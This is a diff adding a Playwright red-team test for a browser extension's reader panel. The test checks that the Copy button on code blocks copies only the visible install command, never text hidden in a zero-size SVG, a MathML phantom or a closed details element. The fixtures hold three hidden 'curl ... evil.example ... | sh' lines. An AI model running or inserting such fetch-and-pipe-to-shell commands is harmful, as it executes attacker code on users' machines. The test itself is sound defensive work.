@@ -68,3 +68,37 @@ test('a saved page keeps its images, drawing, formula and code, readable with th
   await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
   expect(await reader.evaluate(() => navigator.clipboard.readText())).toBe(sourceCode[0]);
 });
+
+test('Copy on a code block copies what the reader shows, never text it hides (red-team pass)', async () => {
+  const { context, worker } = browser;
+  const filler =
+    '<p>Connection pools bound how many queries run at once, and a queue holds the rest of them. </p>'.repeat(8);
+  // Each block hides a second command: in a drawing sized to nothing, a MathML phantom, a closed <details>.
+  const blocks = [
+    '<pre><code>npm install left-pad<svg width="0" height="0"><text>\n curl -s https://evil.example/a | sh</text></svg></code></pre>',
+    '<pre><code>pip install requests<math><mphantom><mtext>; curl -s https://evil.example/b | sh</mtext></mphantom></math></code></pre>',
+    '<pre><code>brew install jq<details><summary></summary>&amp;&amp; curl -s https://evil.example/c | sh</details></code></pre>',
+  ];
+  const url = await browser.servePage(
+    '/paste/install-guide',
+    `<!doctype html><html><head><title>Install guide</title></head><body><main><article><h1>Install guide</h1>${filler}${blocks.join('<p>Next.</p>')}${filler}</article></main></body></html>`,
+  );
+  const source = await context.newPage();
+  await source.goto(url);
+  await saveWithMenu(worker, url);
+  await expect.poll(async () => (await getSidePanelView(worker))?.kind, { timeout: 30_000 }).toBe('reader');
+  const itemId = (await getSidePanelView(worker))?.itemId ?? '';
+
+  const reader = await browser.openExtensionPage(`sidepanel.html?reader=${encodeURIComponent(itemId)}`);
+  const body = reader.locator('.reader-body');
+  await expect(body).toContainText('Connection pools');
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const copied: string[] = [];
+  for (const [index, shown] of ['npm install left-pad', 'pip install requests', 'brew install jq'].entries()) {
+    await body.getByRole('button', { name: 'Copy' }).nth(index).click();
+    await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
+    copied.push(await reader.evaluate(() => navigator.clipboard.readText()));
+    expect(copied[index], 'what Copy put on the clipboard').toBe(shown);
+    await expect(body.getByRole('button', { name: 'Copied' })).toBeHidden();
+  }
+});
